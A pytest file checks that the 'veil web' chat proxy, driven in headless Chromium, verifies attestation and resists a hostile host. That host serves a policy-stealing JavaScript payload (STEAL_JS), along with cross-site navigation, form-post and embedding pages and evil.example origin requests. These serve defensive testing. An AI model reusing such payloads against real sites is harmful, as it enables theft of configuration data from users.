"""The private chat page (`veil web`, client-sdk/web) in a real headless
Chromium (Debian's chromium and chromium-driver, driven by selenium; no
browser is downloaded), against the local cluster: the page verifies the
route in the browser and shows it, answers like the Rust SDK, and shows a
refusal with nothing sent when the relay replays evidence. A screenshot of
each state is saved under target/browser-screenshots/.

A hostile host also tries to run its own script on the page's origin (issue
53, finding E): `veil web` forwards only the page's own fetches, passes the
host's answers on as data (never the host's type or headers), and the page's
CSP names its scripts exactly."""

from __future__ import annotations

import http.client
import os
import shutil
import subprocess
import threading
import time
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Iterator, List, Tuple

import pytest

from conftest import REPO, Cluster, binary, free_port, npm_package, unavailable
from relay import Relay

PROMPT = "Name three colours of the rainbow."
TOKENS = 24
SHOTS = Path(os.environ.get("CARGO_TARGET_DIR", REPO / "target")) / "browser-screenshots"
# The headers of the page's own fetch (client-sdk/web/app.js sets the last).
PAGE_FETCH = {"Sec-Fetch-Dest": "empty", "Sec-Fetch-Site": "same-origin", "X-Veil-Page": "1"}
NONCE = "ab" * 32
# The nonce of the URL the hostile host's HTML loads as a script.
SCRIPT_NONCE = "5c" * 32
# The hostile host's script: were it run on the page's origin, it would mark
# the page, read the policy and post it through `veil web` to the host.
STEAL_JS = b"""
window.hostScriptRan = true;
document.title = "host script ran";
fetch("/policy.toml").then((r) => r.text()).then((policy) => fetch("/v1/sealed", {
  method: "POST", headers: { "content-type": "message/ohttp-chunked-req", "x-veil-page": "1" },
  body: "stolen:" + policy }));
"""
ATTACK_HTML = (
    '<!doctype html><title>host page</title><script src="/v1/attestation?nonce=%s"></script>' % SCRIPT_NONCE
).encode()


def package() -> Path:
    return npm_package()


def skip_or_fail(why: str) -> None:
    unavailable("test_browser", why, "VEIL_REQUIRE_BROWSER")


class Web:
    """`veil web UPSTREAM` on a free loopback port."""

    def __init__(self, upstream: str, policy: Path, log: Path):
        self.log = open(log, "w+")
        port = free_port()
        self.url = f"http://127.0.0.1:{port}"
        self.process = subprocess.Popen(
            [binary("veil"), "web", upstream, "--policy", str(policy), "--listen", f"127.0.0.1:{port}",
             "--pkg", str(package())],
            stdout=self.log, stderr=subprocess.STDOUT,
        )
        deadline = time.monotonic() + 30
        while "open http://" not in log.read_text():
            if self.process.poll() is not None or time.monotonic() > deadline:
                self.stop()
                pytest.fail("veil web did not start:\n" + log.read_text())
            time.sleep(0.05)

    def stop(self) -> None:
        self.process.terminate()
        try:
            self.process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            self.process.kill()
        self.log.close()


class ScriptHost:
    """A hostile host (issue 53, finding E): it answers an attestation request
    with HTML whose `<script src>` is another attestation URL, answers that
    URL (and every sealed request) with JavaScript that would steal the
    policy through `/v1/sealed`, and sends headers of its own (a cookie, CORS,
    an inline disposition). Under `site` (localhost, another site than the
    page's 127.0.0.1) it serves `pages`, for cross-site navigations. It
    records every request that reaches it."""

    def __init__(self) -> None:
        self.requests: List[Tuple[str, str, bytes]] = []
        self.pages: dict = {}
        self.document_type = "text/html"
        self.sealed_type = "application/javascript"
        host = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args: object) -> None:
                pass

            def answer(self, content_type: str, body: bytes, status: int = 200) -> None:
                self.send_response(status)
                self.send_header("Content-Type", content_type)
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Content-Disposition", "inline")
                self.send_header("Set-Cookie", "host=1; Path=/")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self) -> None:
                host.requests.append(("GET", self.path, b""))
                if self.path.startswith("/v1/attestation"):
                    if f"nonce={SCRIPT_NONCE}" in self.path:
                        self.answer("application/javascript", STEAL_JS)
                    else:
                        self.answer(host.document_type, ATTACK_HTML)
                elif self.path in host.pages:
                    self.answer("text/html", host.pages[self.path].encode())
                else:
                    self.answer("text/plain", b"no", 404)

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                host.requests.append(("POST", self.path, body))
                self.answer(host.sealed_type, STEAL_JS)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        port = self.server.server_address[1]
        self.url = f"http://127.0.0.1:{port}"
        self.site = f"http://localhost:{port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def forwarded(self) -> List[Tuple[str, str, bytes]]:
        """The requests `veil web` forwarded (not the cross-site pages)."""
        return [r for r in self.requests if r[1].startswith("/v1/")]

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture()
def script_host() -> Iterator[ScriptHost]:
    h = ScriptHost()
    try:
        yield h
    finally:
        h.close()


@pytest.fixture()
def web_of_script_host(cluster: Cluster, script_host: ScriptHost, tmp_path: Path) -> Iterator[Web]:
    """`veil web` whose host is the script-serving host."""
    w = Web(script_host.url, cluster.policy, tmp_path / "web.log")
    try:
        yield w
    finally:
        w.stop()


@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    try:
        from selenium import webdriver
        from selenium.webdriver.chrome.service import Service
    except ImportError:
        skip_or_fail("selenium is not installed (scripts/check-python.sh installs it)")
    chromium, driver = shutil.which("chromium"), shutil.which("chromedriver")
    if not chromium or not driver:
        skip_or_fail("chromium or chromedriver is missing (apt install chromium chromium-driver)")
    if not (package() / "veil.js").is_file():
        skip_or_fail(f"{package()} not built (scripts/build-wasm.sh)")
    options = webdriver.ChromeOptions()
    options.binary_location = chromium
    for arg in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu",
                "--window-size=1100,1500", "--no-first-run", "--disable-extensions"):
        options.add_argument(arg)
    # An explicit driver: selenium must not look for (or download) one.
    b = webdriver.Chrome(service=Service(executable_path=driver), options=options)
    SHOTS.mkdir(parents=True, exist_ok=True)
    try:
        yield b
    finally:
        b.quit()


@pytest.fixture()
def web_through(cluster: Cluster, relay: Relay, tmp_path: Path) -> Iterator[Web]:
    """`veil web` whose host is the hostile relay in front of the cluster."""
    w = Web(relay.url, cluster.policy, tmp_path / "web.log")
    try:
        yield w
    finally:
        w.stop()


def state(b: object) -> str:
    return b.execute_script("return document.body.dataset.state")  # type: ignore[attr-defined]


def wait_for(b: object, states: tuple, timeout: float = 180) -> str:
    deadline = time.monotonic() + timeout
    while (s := state(b)) not in states:
        if time.monotonic() > deadline:
            pytest.fail(f"the page stayed in state {s!r}; wanted one of {states}")
        time.sleep(0.1)
    return s


def page(b: object) -> dict:
    return b.execute_script("return window.veilPage")  # type: ignore[attr-defined]


def ask(b: object, prompt: str, tokens: int, temperature: float) -> None:
    from selenium.webdriver.common.by import By

    for field, value in (("max-tokens", tokens), ("temperature", temperature)):
        e = b.find_element(By.ID, field)  # type: ignore[attr-defined]
        e.clear()
        e.send_keys(str(value))
    b.find_element(By.ID, "prompt").send_keys(prompt)  # type: ignore[attr-defined]
    b.find_element(By.ID, "send").click()  # type: ignore[attr-defined]


def test_the_page_verifies_the_route_in_the_browser_and_answers_like_the_rust_sdk(
    browser: object, cluster: Cluster, relay: Relay, web_through: Web
) -> None:
    from selenium.webdriver.common.by import By

    expected = subprocess.run(
        [binary("veil"), "chat", cluster.url, "--policy", str(cluster.policy), "--temperature", "0",
         "--max-tokens", str(TOKENS)],
        input=PROMPT + "\n", capture_output=True, text=True, check=True,
    ).stdout.strip()
    relay.set("pass")
    browser.get(web_through.url + "/")  # type: ignore[attr-defined]
    assert wait_for(browser, ("verified", "refused")) == "verified", page(browser)
    shown = page(browser)
    assert shown["simulated"] is True and shown["verifyMs"] > 0
    # Simulated evidence is never a green "Verified": said, in the warning colour.
    status = browser.find_element(By.ID, "status")  # type: ignore[attr-defined]
    assert status.text.startswith("SIMULATED") and "Verified" not in status.text, status.text
    assert status.value_of_css_property("color") in ("rgba(138, 75, 0, 1)", "rgb(138, 75, 0)"), status.text
    summary = browser.find_element(By.ID, "route-summary").text  # type: ignore[attr-defined]
    assert cluster.model_id in summary and "SIMULATED" in summary.upper()
    # One box per shard (entry, three stages with two replicas in the middle)
    # plus the route's; every shard simulated, its rows flagged.
    boxes = browser.find_elements(By.CSS_SELECTOR, "#shards details")  # type: ignore[attr-defined]
    assert len(boxes) == 1 + 4
    assert len(browser.find_elements(By.CSS_SELECTOR, "details.shard.simulated")) == 4  # type: ignore[attr-defined]
    assert browser.find_elements(By.CSS_SELECTOR, "tr.simulated .badge")  # type: ignore[attr-defined]
    assert not browser.find_elements(By.CSS_SELECTOR, "tr.status-failed")  # type: ignore[attr-defined]
    for b in boxes:
        b.click()
    browser.execute_script("window.scrollTo(0, 0)")  # type: ignore[attr-defined]
    browser.save_screenshot(str(SHOTS / "1-verified.png"))  # type: ignore[attr-defined]
    assert relay.sealed_requests() == [], "nothing is sent before the user asks"
    for b in boxes:
        b.click()  # closed again, so the answer's screenshot shows the conversation

    ask(browser, PROMPT, TOKENS, 0)
    assert wait_for(browser, ("answered", "failed")) == "answered", page(browser)
    answer = page(browser)["answers"][0]
    assert answer.strip() == expected
    shown_text = browser.find_element(By.CSS_SELECTOR, ".message.assistant .text").text  # type: ignore[attr-defined]
    assert shown_text.strip() == expected
    assert len(relay.sealed_requests()) == 1
    browser.save_screenshot(str(SHOTS / "2-answered.png"))  # type: ignore[attr-defined]


def test_a_relay_that_replays_evidence_gets_a_refusal_and_no_sealed_request(
    browser: object, relay: Relay, web_through: Web
) -> None:
    from selenium.webdriver.common.by import By

    relay.set("replay")
    browser.get(web_through.url + "/")  # type: ignore[attr-defined]
    assert wait_for(browser, ("verified", "refused")) == "refused"
    error = page(browser)["error"]
    assert error["kind"] == "attestation", error
    assert browser.find_element(By.ID, "refusal").is_displayed()  # type: ignore[attr-defined]
    failed = browser.find_elements(By.CSS_SELECTOR, "#refusal-checks .failed-line")  # type: ignore[attr-defined]
    assert failed and "FAIL" in failed[0].text
    assert not browser.find_element(By.ID, "send").is_enabled()  # type: ignore[attr-defined]
    assert not browser.find_element(By.ID, "prompt").is_enabled()  # type: ignore[attr-defined]
    browser.save_screenshot(str(SHOTS / "3-refused.png"))  # type: ignore[attr-defined]
    # Even a submit forced from outside the form sends nothing: the handler
    # exists only once the route is verified.
    browser.execute_script("document.getElementById('composer').requestSubmit()")  # type: ignore[attr-defined]
    time.sleep(1)
    assert relay.sealed_requests() == []
    assert [m for m, _ in relay.requests] == ["GET"]


def test_a_relay_that_alters_the_answer_fails_the_turn_in_the_page(
    browser: object, relay: Relay, web_through: Web
) -> None:
    relay.set("pass")
    browser.get(web_through.url + "/")  # type: ignore[attr-defined]
    assert wait_for(browser, ("verified", "refused")) == "verified"
    relay.set("tamper", 700)
    ask(browser, PROMPT, TOKENS, 0)
    assert wait_for(browser, ("answered", "failed")) == "failed"
    assert page(browser)["error"]["kind"] == "truncated"
    assert page(browser)["answers"] == []
    browser.save_screenshot(str(SHOTS / "4-answer-altered.png"))  # type: ignore[attr-defined]


def fetch(url: str, method: str = "GET", headers: dict | None = None, body: bytes | None = None) -> tuple:
    req = urllib.request.Request(url, method=method, headers=headers or {}, data=body)
    try:
        with urllib.request.urlopen(req, timeout=30) as r:
            return r.status, r.headers, r.read()
    except urllib.error.HTTPError as e:
        return e.code, e.headers, e.read()


def test_veil_web_serves_its_page_and_forwards_only_the_two_host_requests(
    relay: Relay, web_through: Web
) -> None:
    if not (package() / "veil.js").is_file():
        skip_or_fail(f"{package()} not built (scripts/build-wasm.sh)")
    relay.set("pass")
    status, headers, body = fetch(web_through.url + "/")
    assert status == 200 and b'src="/app.js"' in body
    csp = headers["Content-Security-Policy"]
    assert "connect-src 'self'" in csp
    # Scripts by exact URL only: no 'self', no forwarded path.
    port = web_through.url.rsplit(":", 1)[1]
    assert f"script-src http://localhost:{port}/app.js " in csp and "'self' 'wasm" not in csp
    assert "/v1/" not in csp
    assert fetch(web_through.url + "/veil_wasm_bg.wasm")[1]["Content-Type"] == "application/wasm"
    # A DNS-rebinding page (another Host) and another origin get nothing.
    assert fetch(web_through.url + "/policy.toml", headers={"Host": "evil.example:80"})[0] == 403
    other_origin = {**PAGE_FETCH, "Origin": "http://evil.example", "Content-Type": "message/ohttp-chunked-req"}
    assert fetch(web_through.url + "/v1/sealed", "POST", other_origin, b"x")[0] == 403
    # Nor does anything but the page's own fetch: no fetch metadata, no
    # page header, a navigation.
    assert fetch(web_through.url + "/v1/attestation?nonce=" + NONCE)[0] == 403
    no_header = {k: v for k, v in PAGE_FETCH.items() if k != "X-Veil-Page"}
    assert fetch(web_through.url + "/v1/attestation?nonce=" + NONCE, headers=no_header)[0] == 403
    sealed = {**PAGE_FETCH, "Sec-Fetch-Dest": "document", "Content-Type": "message/ohttp-chunked-req"}
    assert fetch(web_through.url + "/v1/sealed", "POST", sealed, b"x")[0] == 403
    # Only the nonce query, only the sealed type; no other API is forwarded.
    assert fetch(web_through.url + "/v1/attestation?nonce=00", headers=PAGE_FETCH)[0] == 400
    json_typed = {**PAGE_FETCH, "Content-Type": "application/json"}
    assert fetch(web_through.url + "/v1/sealed", "POST", json_typed, b"{}")[0] == 415
    assert fetch(web_through.url + "/v1/models", headers=PAGE_FETCH)[0] == 404
    assert fetch(web_through.url + "/v1/chat/completions", "POST", PAGE_FETCH, b"{}")[0] == 405
    assert relay.requests == []
    status, headers, doc = fetch(web_through.url + "/v1/attestation?nonce=" + NONCE, headers=PAGE_FETCH)
    assert status == 200 and doc.startswith(b"{")
    assert headers["Content-Type"] == "application/json" and headers["Content-Disposition"] == "attachment"
    assert relay.requests == [("GET", "/v1/attestation?nonce=" + NONCE)]
    # A host that floods the attestation answer has it cut at the SDK's
    # limit (8 MiB): the page's connection is aborted, never ended cleanly.
    relay.set("flood", 12)
    with pytest.raises((http.client.IncompleteRead, ConnectionError)):
        fetch(web_through.url + "/v1/attestation?nonce=" + NONCE, headers=PAGE_FETCH)


def navigated(b: object, prefix: str, timeout: float = 20) -> tuple:
    """Waits until the top-level document is at `prefix`; its URL, HTTP
    status and text."""
    deadline = time.monotonic() + timeout
    while True:
        url = b.current_url  # type: ignore[attr-defined]
        ready = b.execute_script("return document.readyState")  # type: ignore[attr-defined]
        if url.startswith(prefix) and ready == "complete":
            break
        if time.monotonic() > deadline:
            pytest.fail(f"the browser stayed at {url}; wanted {prefix}")
        time.sleep(0.1)
    status = b.execute_script(  # type: ignore[attr-defined]
        "return performance.getEntriesByType('navigation')[0]?.responseStatus ?? null"
    )
    text = b.execute_script("return document.body ? document.body.innerText : ''")  # type: ignore[attr-defined]
    return url, status, text


def assert_data(headers: object, content_type: str) -> None:
    """A forwarded answer is data: our type (never the host's), not sniffed,
    an attachment, sandboxed, and none of the host's own headers."""
    assert headers["Content-Type"] == content_type  # type: ignore[index]
    assert headers["X-Content-Type-Options"] == "nosniff"  # type: ignore[index]
    assert headers["Content-Disposition"] == "attachment"  # type: ignore[index]
    assert "sandbox" in headers["Content-Security-Policy"]  # type: ignore[index]
    assert headers.get("Set-Cookie") is None  # type: ignore[attr-defined]
    assert headers.get("Access-Control-Allow-Origin") is None  # type: ignore[attr-defined]


def test_a_hosts_page_and_script_never_run_on_the_pages_origin(
    browser: object, script_host: ScriptHost, web_of_script_host: Web
) -> None:
    """Issue 53, finding E: the host answers the attestation URL with HTML
    whose `<script src>` is another attestation URL, and that URL with a
    script that steals the policy through `/v1/sealed`. Opened at a
    forwarded URL the navigation is refused before the host is asked; and
    even on the page itself such a script is blocked by the CSP."""
    url = web_of_script_host.url
    # The attack as reported: the host's HTML opened at a forwarded URL.
    browser.get(f"{url}/v1/attestation?nonce={NONCE}")  # type: ignore[attr-defined]
    _, status, text = navigated(browser, url)
    assert status == 403 and text.startswith("veil web: only the page's own fetches"), text
    assert browser.execute_script("return window.hostScriptRan === true") is False  # type: ignore[attr-defined]
    assert script_host.forwarded() == []
    # The page itself fetches the host's "document" (HTML, handed to the
    # page as JSON data) and refuses it.
    browser.get(url + "/")  # type: ignore[attr-defined]
    assert wait_for(browser, ("verified", "refused")) == "refused"
    [(method, path, _)] = script_host.forwarded()
    assert method == "GET" and path.startswith("/v1/attestation?nonce=") and SCRIPT_NONCE not in path
    # The host's HTML, were it ever on the page's origin: its script tag
    # (and a module one) are blocked by the CSP before any request is made.
    shown = browser.execute_async_script(  # type: ignore[attr-defined]
        """
        const [src, done] = arguments;
        const blocked = [];
        document.addEventListener("securitypolicyviolation", (e) => blocked.push([e.effectiveDirective, e.blockedURI]));
        const load = (type) => new Promise((resolve) => {
          const s = document.createElement("script");
          if (type) s.type = type;
          s.src = src;
          s.onload = () => resolve("loaded");
          s.onerror = () => resolve("error");
          document.head.append(s);
        });
        Promise.all([load(null), load("module")]).then((outcomes) =>
          setTimeout(() => done({ outcomes, blocked, ran: window.hostScriptRan === true }), 500));
        """,
        f"/v1/attestation?nonce={SCRIPT_NONCE}",
    )
    assert shown["outcomes"] == ["error", "error"] and shown["ran"] is False, shown
    assert [d for d, _ in shown["blocked"]] == ["script-src-elem", "script-src-elem"], shown
    assert all(SCRIPT_NONCE in u for _, u in shown["blocked"]), shown
    # The page's own forwarded fetch, as the page makes it, gets data back.
    answer = browser.execute_async_script(  # type: ignore[attr-defined]
        """
        const [nonce, done] = arguments;
        fetch("/v1/attestation?nonce=" + nonce, { headers: { "X-Veil-Page": "1" } }).then((r) =>
          done([r.status, r.headers.get("content-type"), r.headers.get("content-disposition"),
                r.headers.get("x-content-type-options")]));
        """,
        NONCE,
    )
    assert answer == [200, "application/json", "attachment", "nosniff"]
    time.sleep(1)
    assert browser.execute_script("return window.hostScriptRan === true") is False  # type: ignore[attr-defined]
    assert browser.title != "host script ran"  # type: ignore[attr-defined]
    assert not any(SCRIPT_NONCE in p for _, p, _ in script_host.requests), script_host.requests
    assert not [r for r in script_host.requests if r[0] == "POST"], "nothing was posted to the host"
    browser.save_screenshot(str(SHOTS / "5-host-script-refused.png"))  # type: ignore[attr-defined]


def test_a_cross_site_navigation_to_the_forwarded_paths_is_refused_and_never_reaches_the_relay(
    browser: object, relay: Relay, script_host: ScriptHost, web_through: Web
) -> None:
    """Another site (localhost, the page being 127.0.0.1's) navigates the
    browser to the forwarded paths (no Origin on a GET navigation,
    Sec-Fetch-Dest: document), posts a form to them, and embeds them as a
    script, an image and a frame: all refused, none forwarded."""
    relay.set("pass")
    target = web_through.url
    script_host.pages["/go.html"] = f'<script>location.href = "{target}/v1/attestation?nonce={NONCE}";</script>'
    script_host.pages["/post.html"] = (
        f'<form id="f" method="POST" action="{target}/v1/sealed" enctype="text/plain">'
        '<input name="a" value="b"></form><script>document.getElementById("f").submit();</script>'
    )
    script_host.pages["/embed.html"] = (
        f'<script src="{target}/v1/attestation?nonce={SCRIPT_NONCE}"></script>'
        f'<img src="{target}/v1/attestation?nonce={NONCE}">'
        f'<iframe src="{target}/v1/attestation?nonce={NONCE}"></iframe>'
        f'<link rel="stylesheet" href="{target}/v1/attestation?nonce={NONCE}">'
    )
    browser.get(script_host.site + "/go.html")  # type: ignore[attr-defined]
    _, status, text = navigated(browser, target)
    assert status == 403 and text.startswith("veil web: only the page's own fetches"), text
    browser.get(script_host.site + "/post.html")  # type: ignore[attr-defined]
    _, status, text = navigated(browser, target)
    assert status == 403 and text.startswith("veil web: cross-origin request refused"), text
    browser.get(script_host.site + "/embed.html")  # type: ignore[attr-defined]
    navigated(browser, script_host.site)
    time.sleep(1)
    pages = [p for _, p, _ in script_host.requests if p != "/favicon.ico"]
    assert pages == ["/go.html", "/post.html", "/embed.html"]
    assert relay.requests == []


def test_hostile_content_types_are_forwarded_as_data_with_nosniff_and_attachment(
    script_host: ScriptHost, web_of_script_host: Web
) -> None:
    if not (package() / "veil.js").is_file():
        skip_or_fail(f"{package()} not built (scripts/build-wasm.sh)")
    url = web_of_script_host.url
    sealed = {**PAGE_FETCH, "Content-Type": "message/ohttp-chunked-req"}
    hostile = ("text/html", "application/javascript")
    for script_host.document_type, script_host.sealed_type in (hostile, hostile[::-1]):
        status, headers, body = fetch(f"{url}/v1/attestation?nonce={NONCE}", headers=PAGE_FETCH)
        assert status == 200 and body == ATTACK_HTML
        assert_data(headers, "application/json")
        status, headers, body = fetch(f"{url}/v1/attestation?nonce={SCRIPT_NONCE}", headers=PAGE_FETCH)
        assert status == 200 and body == STEAL_JS
        assert_data(headers, "application/json")
        status, headers, body = fetch(f"{url}/v1/sealed", "POST", sealed, b"sealed")
        assert status == 200 and body == STEAL_JS
        assert_data(headers, "application/octet-stream")
    assert len(script_host.forwarded()) == 6
    # Not the page's fetch: refused with a reason, the host not asked.
    for h in ({}, {"Sec-Fetch-Dest": "document", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Site": "cross-site"},
              {**PAGE_FETCH, "Sec-Fetch-Dest": "script"}, {**PAGE_FETCH, "X-Veil-Page": "0"}):
        status, headers, body = fetch(f"{url}/v1/attestation?nonce={SCRIPT_NONCE}", headers=h)
        assert status == 403 and body.startswith(b"veil web: only the page's own fetches"), (h, body)
        assert headers["Content-Type"] == "text/plain; charset=utf-8"
    assert len(script_host.forwarded()) == 6
